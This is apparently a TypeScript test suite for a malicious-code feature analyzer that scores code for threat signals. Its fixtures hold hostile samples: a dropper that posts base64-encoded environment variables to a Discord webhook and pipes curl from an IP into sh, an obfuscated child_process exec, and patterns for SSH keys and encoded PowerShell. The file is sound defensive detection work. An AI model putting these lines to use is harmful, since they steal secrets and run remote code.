import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { type AnalysisLanguage, Analyzer } from '../../../src/admission/threat/analyzer.ts';
import { FEATURES, featuresOf } from '../../../src/admission/threat/features.ts';
import { textClasses, textClassNames } from '../../../src/admission/threat/text-classes.ts';

let analyzer: Analyzer;
before(async () => {
  analyzer = await Analyzer.open(['javascript', 'python']);
});

function row(
  source: string,
  language: AnalysisLanguage = 'javascript',
  profile: 'effect' | 'package' = 'effect',
): Record<string, number> {
  const inspected = analyzer.inspect(source, { language, profile });
  const values = featuresOf({ ...inspected, language });
  return Object.fromEntries(FEATURES.map((name, at) => [name, values[at] as number]));
}

const DROPPER = `
const https = require('https');
const { execSync } = require('child_process');
const body = JSON.stringify(process.env);
const out = https.request('https://discord.com/api/webhooks/1/x', { method: 'POST' });
out.write(Buffer.from(body).toString('base64'));
execSync('curl -s http://192.0.2.7/a.sh | sh');
`;

describe('features', () => {
  test('have names that differ', () => {
    assert.equal(new Set(FEATURES).size, FEATURES.length);
  });

  test('of harmless code are nearly all zero', () => {
    const values = row('export function mean(list) { return sum(list) / list.length; }');
    for (const [name, value] of Object.entries(values)) {
      assert.equal(value, 0, name);
    }
  });

  test('tell effects, texts and what is handed on', () => {
    const values = row(DROPPER);
    assert.ok((values['effects:child-process'] as number) > 0);
    assert.ok((values['handed-on:environment'] as number) > 0);
    assert.ok((values['texts:dropbox'] as number) > 0);
    assert.ok((values['texts:shell'] as number) > 0);
    assert.ok((values['effects-at-load'] as number) > 0);
  });

  test('do not depend on what is declared', () => {
    assert.deepEqual(row(DROPPER, 'javascript', 'effect'), row(DROPPER, 'javascript', 'package'));
  });

  test('do not depend on length, lines, space, comments, and names', () => {
    const minified = DROPPER.replaceAll('\n', ' ').trim();
    const padded = `/* ${'x'.repeat(5000)} */\n\n\n;;;;${DROPPER}\n${'\n'.repeat(300)};;;;// end`;
    const renamed = DROPPER.replaceAll('body', 'aVeryLongNameOfNothing');
    for (const other of [minified, padded, renamed]) assert.deepEqual(row(other), row(DROPPER));
  });

  test('end early: repeating what is there adds nothing', () => {
    const call = "fetch('https://example.invalid/' + process.env.HOME);\n";
    assert.deepEqual(row(call.repeat(20)), row(call.repeat(60)));
  });

  test('tell texts that were split or encoded', () => {
    const values = row("const a = 'child_' + 'process'; require(a).exec(atob('Y3VybCAtcw=='));");
    const hidden =
      (values['texts-split'] as number) +
      (values['texts-encoded'] as number) +
      (values['texts-computed'] as number);
    assert.ok(hidden > 0);
  });

  test('of Python say so', () => {
    assert.equal(row('import os\nos.system("id")', 'python')['is-python'], 1);
  });

  test('are numbers for whatever comes', () => {
    for (const source of ['', '\0', '(((', '"'.repeat(999), 'a'.repeat(70_000), '\ud800']) {
      assert.ok(Object.values(row(source)).every(Number.isFinite));
    }
  });
});

describe('kinds of text', () => {
  const names = (text: string): string[] =>
    textClassNames.filter((_, bit) => (textClasses(text) & (1 << bit)) !== 0);

  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['hello world', []],
    ['https://example.org/x', ['url']],
    ['http://192.0.2.1/a.exe', ['url', 'url-by-number', 'executable']],
    ['https://discord.com/api/webhooks/1/2', ['url', 'dropbox']],
    ['%APPDATA%', ['hidden-place']],
    ['/home/u/.ssh/id_rsa', ['secret-place']],
    ['MSXML2.XMLHTTP', ['windows-object']],
    ['powershell -enc', ['shell']],
    ['<iframe src=x>', ['frame']],
  ];
  for (const [text, expected] of cases) {
    test(JSON.stringify(text), () => assert.deepEqual(names(text), expected));
  }

  test('of a long text are those of its beginning, at once', () => {
    assert.deepEqual(names('x'.repeat(1e6)), []);
    assert.deepEqual(names(`${'x'.repeat(2000)} powershell`), []);
  });
});
